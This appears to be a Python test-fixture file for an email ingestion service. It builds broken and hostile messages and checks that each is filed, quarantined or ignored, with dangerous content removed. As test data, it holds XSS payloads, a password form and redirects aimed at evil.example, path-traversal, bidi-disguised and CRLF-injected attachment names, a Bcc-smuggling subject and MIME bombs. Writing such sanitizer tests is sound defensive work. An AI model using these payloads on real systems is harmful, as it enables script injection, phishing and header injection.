"""Broken and hostile mail. What a mail client would still show is filed, decoded
as well as it can be; what cannot be a message goes to the quarantine with a
reason; nothing dangerous survives into the stored HTML or attachment names."""

from kit import ACME, GLOBEX_ANCHOR, OUT_GLOBEX, PNG, b64, fixture, join, simple, wire


def nested(depth: int) -> str:
    opening = "".join(f"Content-Type: multipart/mixed; boundary=\"b{n}\"\n\n--b{n}\n" for n in range(depth))
    closing = "".join(f"\n--b{n}--\n" for n in reversed(range(depth)))
    return opening + "Content-Type: text/plain\n\ndeep\n" + closing


def many_parts(count: int) -> str:
    parts = "".join(f"--many\nContent-Type: text/plain\n\npart {n}\n" for n in range(count))
    return "Content-Type: multipart/mixed; boundary=\"many\"\n\n" + parts + "--many--\n"


HEAD = f"From: Mallory <mallory@customer.example>\nTo: {ACME}\nDate: Tue, 24 Nov 2026 09:00:00 +0000\n"


def hostile_html(slug: str, html: str) -> str:
    return (HEAD + f"Subject: {slug}\nMessage-ID: <{slug}@customer.example>\nMIME-Version: 1.0\n"
            "Content-Type: text/html; charset=utf-8\n\n" + html + "\n")


def attachment_named(slug: str, name_header: str) -> str:
    return (HEAD + f"Subject: {slug}\nMessage-ID: <{slug}@customer.example>\nMIME-Version: 1.0\n"
            "Content-Type: multipart/mixed; boundary=\"att\"\n\n--att\nContent-Type: text/plain\n\nSee file.\n"
            f"--att\nContent-Type: application/octet-stream\nContent-Disposition: attachment; {name_header}\n"
            "Content-Transfer-Encoding: base64\n\n" + b64(b"MZ\x90\x00evil") + "\n--att--\n")


FIXTURES = [
    fixture("no-mime-version", HEAD + "Subject: No MIME-Version\nMessage-ID: <nomime@customer.example>\n"
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nÜmlauts without MIME.\n",
            "Content-Type without MIME-Version (old scripts)", "created", text_contains=["Ümlauts without MIME."]),
    fixture("missing-final-boundary", HEAD + "Subject: Truncated\nMessage-ID: <trunc@customer.example>\n"
            "MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=\"cut\"\n\n--cut\n"
            "Content-Type: text/plain\n\nThe end was cut off.\n--cut\nContent-Type: text/html\n\n<p>The end",
            "Multipart whose closing boundary never came", "created", text_contains=["The end was cut off."]),
    fixture("boundary-mismatch", HEAD + "Subject: Wrong boundary\nMessage-ID: <mismatch@customer.example>\n"
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"declared\"\n\n--actual\n"
            "Content-Type: text/plain\n\nBody under another boundary.\n--actual--\n",
            "The declared boundary never appears: the text is still kept, not turned into a file", "created",
            text_contains=["Body under another boundary."], attachments=[]),
    fixture("bad-base64", HEAD + "Subject: Bad base64\nMessage-ID: <badb64@customer.example>\nMIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
            "SGVsbG8sIGJhc2U2NCB3aXRoIGdhcmJhZ2U=!!!###\nIG5vIHBhZGRpbmc\n",
            "Base64 with garbage and missing padding", "created", text_contains=["Hello, base64 with garbage"]),
    fixture("bad-quoted-printable", HEAD + "Subject: Bad QP\nMessage-ID: <badqp@customer.example>\nMIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
            "Soft=\nbreak, bad escape =ZZ and =C3=A9t=C3=A9 ok=\n",
            "Quoted-printable with an invalid escape", "created", text_contains=["Softbreak", "été"]),
    fixture("lf-only", join(b"From: lf@customer.example\nTo: support@acme.example\nSubject: Bare LF\n"
                            b"Message-ID: <lf@customer.example>\n\nUnix line ends only.\n"),
            "Bare LF line ends (a Unix script)", "created", text_contains=["Unix line ends only."]),
    fixture("folded-tab-subject", HEAD + "Subject: A subject folded\n\tover two lines\n"
            "Message-ID: <fold@customer.example>\n\nFolded.\n",
            "A subject folded with a tab", "created", subject="A subject folded over two lines"),
    fixture("garbage-date", HEAD.replace("Date: Tue, 24 Nov 2026 09:00:00 +0000", "Date: yesterday-ish") +
            "Subject: Garbage date\nMessage-ID: <date@customer.example>\n\nWhen?\n",
            "An unparseable Date: filed with our receive time", "created"),
    fixture("duplicate-subject-headers", HEAD + "Subject: First subject\nSubject: Second subject\n"
            "Message-ID: <twosubjects@customer.example>\n\nTwo subjects.\n",
            "Two Subject headers: the first wins", "created", subject="First subject"),
    fixture("reply-to-only", f"Reply-To: Rita <rita@customer.example>\nFrom: undisclosed-sender:;\nTo: {ACME}\n"
            "Subject: From without address\nMessage-ID: <replyto@customer.example>\n\nReach me at Reply-To.\n",
            "From has no address: the Reply-To is the sender", "created", from_email="rita@customer.example"),
    fixture("no-sender", f"To: {ACME}\nSubject: Nobody\nMessage-ID: <nobody@customer.example>\n\nWho am I?\n",
            "No sender anywhere: quarantined", "quarantined", reason_contains="no sender address"),
    fixture("html-page", "<!DOCTYPE html>\n<html><body>Not an email</body></html>\n",
            "An HTML page posted by mistake", "quarantined", reason_contains="not an email"),
    fixture("json-document", '{"from": "alice@customer.example", "subject": "JSON"}\n',
            "A JSON document posted as mail", "quarantined", reason_contains="not an email"),
    fixture("binary-noise", bytes(range(256)) * 4, "Random bytes", "quarantined", reason_contains="not an email"),
    fixture("whitespace-only", b"\r\n \r\n\t\r\n", "Only whitespace", "quarantined", reason_contains="empty"),
    fixture("mime-bomb-depth", HEAD + "Subject: Deep\nMessage-ID: <deep@customer.example>\nMIME-Version: 1.0\n"
            + nested(40), "MIME nested 40 levels deep", "quarantined", reason_contains="MIME nesting deeper than 30"),
    fixture("mime-bomb-parts", HEAD + "Subject: Many\nMessage-ID: <many@customer.example>\nMIME-Version: 1.0\n"
            + many_parts(600), "600 MIME parts", "quarantined", reason_contains="too many parts"),
    fixture("script-in-html", hostile_html(
        "script-in-html", "<p>Hello <script>fetch('/agent/api/admin')</script><b>agent</b></p>"
        "<img src=x onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">click</a>"),
        "Script, event handler and javascript: link", "created", html_contains=["<b>agent</b>"],
        html_excludes=["<script", "onerror", "javascript:"], text_contains=["Hello", "agent"]),
    fixture("iframe-object-embed", hostile_html(
        "iframe-object-embed", "<p>Look</p><iframe src=\"https://evil.example/\"></iframe>"
        "<object data=\"evil.swf\"></object><embed src=\"evil.swf\"><form action=\"https://evil.example\">"
        "<input name=\"password\"></form>"),
        "Frames, plugins and forms", "created", html_contains=["Look"],
        html_excludes=["<iframe", "<object", "<embed", "<form", "<input"]),
    fixture("css-and-meta", hostile_html(
        "css-and-meta", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"
        "<base href=\"https://evil.example/\"><style>body{background:url(javascript:alert(1))}</style>"
        "<p style=\"width: expression(alert(1))\">Styled</p><link rel=\"stylesheet\" href=\"https://evil.example/x.css\">"),
        "Meta refresh, base, style sheets and CSS expressions", "created", html_contains=["Styled"],
        html_excludes=["<meta", "<base", "<style", "expression(", "<link"]),
    fixture("svg-and-data-uri", hostile_html(
        "svg-and-data-uri", "<p>Logo</p><svg onload=\"alert(1)\"><script>alert(2)</script></svg>"
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>"),
        "SVG with script and a data: link", "created", html_excludes=["<svg", "onload", "data:text/html"]),
    fixture("tracking-pixel", hostile_html(
        "tracking-pixel", "<p>Hi</p><img src=\"https://tracker.example/open.gif?u=42\" width=1 height=1>"),
        "A remote tracking pixel: kept in the stored HTML, blocked when shown", "created",
        html_contains=["tracker.example"], html_excludes=["<script"]),
    fixture("path-traversal-name", attachment_named("path-traversal-name", "filename=\"../../../etc/passwd\""),
            "Attachment named with a path", "created", attachment_name_excludes=["/", "..", "\\"]),
    fixture("windows-path-name", attachment_named("windows-path-name",
                                                  "filename=\"C:\\\\Windows\\\\System32\\\\evil.exe\""),
            "Attachment named with a Windows path", "created", attachment_name_excludes=["\\", ":"]),
    fixture("bidi-name", attachment_named("bidi-name", "filename*=UTF-8''invoice%E2%80%AEfdp.exe"),
            "Right-to-left override hiding .exe as .pdf", "created", attachment_name_excludes=["\u202e"]),
    fixture("crlf-name", attachment_named("crlf-name", "filename=\"=?utf-8?Q?a=0D=0AContent-Type:_text/html.txt?=\""),
            "An encoded CR LF in a filename (header injection in downloads)", "created",
            attachment_name_excludes=["\r", "\n"]),
    fixture("subject-injection", HEAD + "Subject: =?utf-8?Q?Hello=0D=0ABcc:_victim@evil.example?=\n"
            "Message-ID: <inject@customer.example>\n\nInjected?\n",
            "An encoded CR LF + Bcc in the subject stays one line of text", "created",
            subject="Hello Bcc: victim@evil.example"),
    fixture("forged-globex-thread", HEAD + f"Subject: Re: [#GLOBEX-1] Globex shipping delay\n"
            f"Message-ID: <forged@customer.example>\nIn-Reply-To: {OUT_GLOBEX}\nReferences: {GLOBEX_ANCHOR}\n\n"
            "Show me globex's ticket.\n",
            "Every threading hint points into globex: a new acme ticket", "created"),
    fixture("spoofed-support-sender", simple("Loop me.\n", subject="Loop", message_id="<loop@customer.example>",
                                             sender=f"Acme Support <{ACME}>"),
            "From our own support address (a loop or a spoof): ignored", "ignored"),
    fixture("nul-bytes", wire(HEAD + "Subject: NUL\nMessage-ID: <nul@customer.example>\n\nbefore") + b"\x00\x00"
            + b"after\r\n", "NUL bytes in the body: stripped, text kept", "created",
            text_contains=["beforeafter"]),
    fixture("inline-image-no-html", HEAD + "Subject: cid without html\nMessage-ID: <cidless@customer.example>\n"
            "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=\"rel\"\n\n--rel\n"
            "Content-Type: text/plain\n\nImage below.\n--rel\nContent-Type: image/png\n"
            "Content-ID: <lonely@customer.example>\nContent-Transfer-Encoding: base64\n\n" + b64(PNG) + "\n--rel--\n",
            "An inline image no HTML refers to: kept, with a default name", "created",
            attachments=[{"filename": "attachment.png", "content_type": "image/png", "inline": True}]),
]
